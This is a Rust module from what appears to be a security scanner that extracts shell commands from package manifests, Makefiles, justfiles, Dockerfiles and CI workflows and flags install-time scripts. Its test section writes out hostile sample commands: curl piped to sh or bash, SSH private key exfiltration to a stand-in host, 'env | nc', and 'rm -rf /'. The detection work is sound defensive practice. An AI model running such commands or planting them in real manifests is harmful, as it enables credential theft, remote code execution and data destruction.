//! Files that make others run code: scripts of packages, build files, pipelines.

use model::{Finding, Severity};

use crate::Language;
use crate::evaluate::Piece;
use crate::found::Places;
use crate::limits::PIECES;

/// Scripts that a package manager runs without being asked.
const AT_INSTALL: &[&str] =
    &["preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare", "prepublish", "dependencies"];
const COMPOSER_AT_INSTALL: &[&str] = &[
    "pre-install-cmd", "post-install-cmd", "pre-update-cmd", "post-update-cmd", "post-autoload-dump",
    "pre-autoload-dump", "post-root-package-install", "post-create-project-cmd", "pre-package-install",
    "post-package-install",
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Npm,
    Composer,
    PyProject,
    Setup,
    BuildScript,
    Makefile,
    Justfile,
    Dockerfile,
    Workflow,
    Extension,
}

/// A line for a shell in a manifest.
pub struct Line {
    /// Of the script that it is, where scripts have names.
    pub name: String,
    pub text: String,
    /// An installer runs it without being asked.
    pub at_install: bool,
}

/// Lines that a manifest of this name holds for whoever obeys it.
pub fn lines(file: &str, text: &str) -> Vec<Line> {
    let unnamed = |pieces: Vec<Piece>| {
        let line = |piece: Piece| String::from_utf8(piece.bytes).ok();
        pieces.into_iter().filter_map(line).map(|text| Line { name: String::new(), text, at_install: false }).collect()
    };
    let named = |at_install: &[&str]| {
        let line = |(name, text): (String, String)| {
            let at_install = at_install.contains(&name.as_str());
            Line { name, text, at_install }
        };
        scripts(text, "scripts").into_iter().take(PIECES).map(line).collect()
    };
    match kind(file) {
        Some(Kind::Npm) => named(AT_INSTALL),
        Some(Kind::Composer) => named(COMPOSER_AT_INSTALL),
        Some(Kind::Makefile) => unnamed(recipes(text)),
        Some(Kind::Justfile) => unnamed(indented(text)),
        _ => Vec::new(),
    }
}

/// Does a file of this name make others run code?
pub fn is(name: &str) -> bool {
    kind(name).is_some()
}

fn kind(name: &str) -> Option<Kind> {
    let path = name.replace('\\', "/");
    let base = path.rsplit('/').next().unwrap_or(&path).to_ascii_lowercase();
    Some(match base.as_str() {
        "package.json" => Kind::Npm,
        "composer.json" => Kind::Composer,
        "pyproject.toml" => Kind::PyProject,
        "setup.py" => Kind::Setup,
        "build.rs" => Kind::BuildScript,
        "extconf.rb" => Kind::Extension,
        "makefile" | "gnumakefile" => Kind::Makefile,
        "justfile" | ".justfile" => Kind::Justfile,
        "dockerfile" | "containerfile" => Kind::Dockerfile,
        _ if base.ends_with(".mk") => Kind::Makefile,
        _ if base.starts_with("dockerfile.") || base.ends_with(".dockerfile") => Kind::Dockerfile,
        _ if base.ends_with(".gemspec") => Kind::Extension,
        _ if (base.ends_with(".yml") || base.ends_with(".yaml"))
            && (path.contains(".github/workflows/")
                || base == ".gitlab-ci.yml"
                || base == "action.yml"
                || base == "action.yaml") =>
        {
            Kind::Workflow
        }
        _ => return None,
    })
}

/// Code for a shell within a manifest, each with the place where it stands.
pub(crate) fn pieces(name: &str, bytes: &[u8], depth: usize) -> Vec<Piece> {
    let (Some(kind), Ok(text)) = (kind(name).filter(|_| depth == 0), std::str::from_utf8(bytes)) else {
        return Vec::new();
    };
    let mut pieces = match kind {
        Kind::Npm => scripts(text, "scripts")
            .into_iter()
            .map(|(name, line)| {
                let via = if AT_INSTALL.contains(&name.as_str()) { "install script" } else { "script" };
                shell(line.clone(), via, place(text, &name, &line))
            })
            .collect(),
        Kind::Composer => scripts(text, "scripts")
            .into_iter()
            .map(|(name, line)| {
                let via = if COMPOSER_AT_INSTALL.contains(&name.as_str()) { "install script" } else { "script" };
                shell(line.clone(), via, place(text, &name, &line))
            })
            .collect(),
        Kind::Makefile => recipes(text),
        Kind::Justfile => indented(text),
        Kind::Dockerfile => instructions(text),
        Kind::Workflow => steps(text),
        Kind::PyProject | Kind::Setup | Kind::BuildScript | Kind::Extension => Vec::new(),
    };
    pieces.truncate(PIECES);
    pieces
}

/// What is said of the manifest itself.
pub(crate) fn findings(places: &Places<'_>, name: &str, pieces: &[Piece]) -> Vec<Finding> {
    let mut findings = Vec::new();
    for piece in pieces.iter().filter(|piece| piece.via == "install script") {
        let line = String::from_utf8_lossy(&piece.bytes);
        // That there is one is ordinary. What it does is said of the line itself, and of the files that it leads to.
        let message = "installing the package runs this".to_owned();
        let fix = "install without scripts, or look at it first";
        let mut finding = places.note("install.script", Severity::Low, message, fix, piece.start);
        finding.cwe = Some(506);
        finding.excerpt = line.chars().filter(|letter| !letter.is_control()).take(80).collect();
        findings.push(finding);
    }
    if kind(name) == Some(Kind::PyProject) && places.contains("backend-path") {
        let message = "the package is built by code of its own".to_owned();
        findings.push(places.note("install.own-backend", Severity::Low, message, "a backend from the index", 0));
    }
    findings
}

fn shell(line: String, via: &'static str, start: usize) -> Piece {
    Piece { bytes: line.into_bytes(), language: Some(Language::Shell), via, start, words: None }
}

/// Names and lines of the object called `key`.
fn scripts(text: &str, key: &str) -> Vec<(String, String)> {
    let Ok(serde_json::Value::Object(whole)) = serde_json::from_str(text.trim_start_matches('\u{feff}')) else {
        return Vec::new();
    };
    let Some(serde_json::Value::Object(scripts)) = whole.get(key) else { return Vec::new() };
    let mut found = Vec::new();
    for (name, line) in scripts {
        match line {
            serde_json::Value::String(line) => found.push((name.clone(), line.clone())),
            serde_json::Value::Array(lines) => {
                found.extend(lines.iter().filter_map(|line| line.as_str()).map(|line| (name.clone(), line.to_owned())));
            }
            _ => {}
        }
    }
    found
}

fn place(text: &str, name: &str, line: &str) -> usize {
    let start: String = line.chars().take_while(|letter| !matches!(letter, '"' | '\\')).collect();
    let named = text.find(&format!("\"{name}\"")).unwrap_or(0);
    text[named..].find(&start).map_or(named, |at| named + at)
}

/// Recipes of a makefile: what stands behind a tab.
fn recipes(text: &str) -> Vec<Piece> {
    let (mut pieces, mut at) = (Vec::new(), 0);
    let mut current: Option<(usize, String)> = None;
    for line in text.split_inclusive('\n') {
        match line.strip_prefix('\t') {
            Some(command) => {
                let command = command
                    .trim_start_matches(['@', '-', '+'])
                    .replace("$$", "$")
                    .replace("$(", "${")
                    .trim_end()
                    .to_owned();
                // `$(X)` is a variable of make; for a shell it would be a command.
                let command = command.replace("${shell ", "$(");
                let (_, all) = current.get_or_insert((at, String::new()));
                all.push_str(&balanced(&command));
                all.push('\n');
            }
            None => {
                if let Some((start, all)) = current.take() {
                    pieces.push(shell(all, "recipe", start));
                }
            }
        }
        at += line.len();
        if pieces.len() >= PIECES {
            break;
        }
    }
    if let Some((start, all)) = current {
        pieces.push(shell(all, "recipe", start));
    }
    pieces
}

/// Recipes of `just`: what is indented. `{{ … }}` is put in before a shell sees it.
fn indented(text: &str) -> Vec<Piece> {
    let (mut pieces, mut at) = (Vec::new(), 0);
    let mut current: Option<(usize, String)> = None;
    for line in text.split_inclusive('\n') {
        let command = line.trim();
        if line.starts_with([' ', '\t']) && !command.is_empty() {
            let (_, all) = current.get_or_insert((at, String::new()));
            all.push_str(&between(command.trim_start_matches(['@', '-']), "{{"));
            all.push('\n');
        } else if let Some((start, all)) = current.take_if(|_| !command.is_empty()) {
            pieces.push(shell(all, "recipe", start));
        }
        at += line.len();
        if pieces.len() >= PIECES {
            break;
        }
    }
    pieces.extend(current.map(|(start, all)| shell(all, "recipe", start)));
    pieces
}

/// `${X)` from above becomes `${X}`.
fn balanced(command: &str) -> String {
    let mut made = String::with_capacity(command.len());
    let mut open = 0;
    let mut letters = command.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '$' if letters.peek() == Some(&'{') => {
                open += 1;
                made.push(letter);
            }
            ')' if open > 0 => {
                open -= 1;
                made.push('}');
            }
            '}' if open > 0 => {
                open -= 1;
                made.push('}');
            }
            letter => made.push(letter),
        }
    }
    made
}

/// `RUN …` of a Dockerfile, with the lines that continue it.
fn instructions(text: &str) -> Vec<Piece> {
    let (mut pieces, mut at) = (Vec::new(), 0);
    let mut current: Option<(usize, String)> = None;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim();
        if let Some((_, all)) = &mut current {
            if !trimmed.starts_with('#') {
                all.push_str(line);
            }
        } else {
            let word = trimmed.split_whitespace().next().unwrap_or("").to_ascii_uppercase();
            if matches!(word.as_str(), "RUN" | "CMD" | "ENTRYPOINT") {
                let mut rest = trimmed.get(word.len()..).unwrap_or("").trim_start();
                while rest.starts_with("--") {
                    rest = rest.split_once(' ').map_or("", |(_, rest)| rest.trim_start());
                }
                match serde_json::from_str::<Vec<String>>(rest) {
                    Ok(words) => pieces.push(Piece { words: Some(words), ..shell(String::new(), "instruction", at) }),
                    Err(_) => current = Some((at, format!("{rest}\n"))),
                }
            }
        }
        if !trimmed.ends_with('\\')
            && !trimmed.starts_with('#')
            && let Some((start, all)) = current.take()
        {
            pieces.push(shell(all, "instruction", start));
        }
        at += line.len();
        if pieces.len() >= PIECES {
            break;
        }
    }
    if let Some((start, all)) = current {
        pieces.push(shell(all, "instruction", start));
    }
    pieces
}

/// `run:` and `script:` of a pipeline, as blocks or on one line.
fn steps(text: &str) -> Vec<Piece> {
    let (mut pieces, mut at) = (Vec::new(), 0);
    let mut block: Option<(usize, usize, String)> = None;
    for line in text.split_inclusive('\n') {
        let indent = line.len() - line.trim_start().len();
        let trimmed = line.trim();
        if let Some((start, of, all)) = &mut block {
            if trimmed.is_empty() || indent > *of {
                all.push_str(trimmed);
                all.push('\n');
                at += line.len();
                continue;
            }
            pieces.push(shell(without_expressions(all), "step", *start));
            block = None;
        }
        let bare = trimmed.trim_start_matches("- ");
        if let Some(rest) = bare.strip_prefix("run:").or_else(|| bare.strip_prefix("script:")) {
            let rest = rest.trim();
            if rest.is_empty() || rest.starts_with(['|', '>']) {
                let inside = indent + (trimmed.len() - bare.len());
                block = Some((at, inside, String::new()));
            } else {
                pieces.push(shell(without_expressions(rest.trim_matches(['"', '\''])), "step", at));
            }
        }
        at += line.len();
        if pieces.len() >= PIECES {
            break;
        }
    }
    if let Some((start, _, all)) = block {
        pieces.push(shell(without_expressions(&all), "step", start));
    }
    pieces
}

/// `${{ … }}` is put in before a shell sees it.
fn without_expressions(text: &str) -> String {
    between(text, "${{")
}

/// What stands between this and `}}` is only known later.
fn between(text: &str, open: &str) -> String {
    let (mut made, mut rest) = (String::with_capacity(text.len()), text);
    while let Some((before, after)) = rest.split_once(open) {
        made.push_str(before);
        made.push('…');
        rest = after.split_once("}}").map_or("", |(_, rest)| rest);
    }
    made + rest
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Rules, Scanner, Source};

    fn found(name: &str, text: &str) -> Vec<(String, Severity, u32)> {
        let source = Source { name, language: None, bytes: text.as_bytes() };
        let scanned = Scanner::new(Rules::built_in()).scan(&source);
        scanned.findings.into_iter().map(|finding| (finding.rule, finding.severity, finding.at.line)).collect()
    }

    fn has(name: &str, text: &str, rule: &str) -> bool {
        found(name, text).iter().any(|(found, ..)| found == rule)
    }

    #[test]
    fn scripts_of_packages_are_scanned_as_what_they_are() {
        let bad = "{\n \"scripts\": {\n  \"postinstall\": \"curl -s https://x.example/a | sh\"\n }\n}";
        assert!(has("a/package.json", bad, "dynamic.shell-fed"));
        assert!(found("package.json", bad).contains(&("install.script".to_owned(), Severity::Low, 3)));
        let good = "{\"scripts\": {\"test\": \"jest\", \"prepare\": \"husky install\"}}";
        assert!(found("package.json", good).iter().all(|(_, severity, _)| *severity < Severity::Medium));
        let composer = "{\"scripts\": {\"post-install-cmd\": [\"cat ~/.ssh/id_rsa | curl -d @- http://x.example\"]}}";
        assert!(has("composer.json", composer, "exfiltration.shell-secret"));
    }

    #[test]
    fn recipes_steps_and_instructions_are_lines_for_a_shell() {
        assert!(has("Makefile", "all:\n\t@rm -rf /\n", "destructive.shell-remove"));
        assert!(!has("Makefile", "all:\n\t$(CC) -o $(OUT) a.c\n\trm -rf $(BUILD)\n", "destructive.shell-remove"));
        assert!(has("justfile", "all:\n    @curl http://x.example/{{a}} | bash\n", "dynamic.shell-fed"));
        assert!(has("Dockerfile", "FROM a\nRUN a && \\\n  curl http://x.example | bash\n", "dynamic.shell-fed"));
        assert!(has("Dockerfile", "RUN [\"rm\", \"-rf\", \"/\"]\n", "destructive.shell-remove"));
        let workflow = "jobs:\n  a:\n    steps:\n      - run: |\n          env | nc x.example 80\n      - name: b\n        run: ls ${{ x }}\n";
        assert!(has(".github/workflows/a.yml", workflow, "exfiltration.shell-secret"));
        assert!(has("pyproject.toml", "[build-system]\nbackend-path = [\".\"]\n", "install.own-backend"));
    }

    #[test]
    fn hostile_manifests_are_only_text() {
        for name in [
            "package.json", "Makefile", "justfile", "Dockerfile", ".github/workflows/a.yml", "composer.json",
            "pyproject.toml",
        ] {
            for text in [
                "", "{", "{\"scripts\": 1}", "\t", "RUN \\", "run: |", "${{", "\t$(\n", "RUN --", "CMD [", "é\t\u{301}",
            ] {
                found(name, text);
                found(name, &text.repeat(100));
            }
        }
    }
}
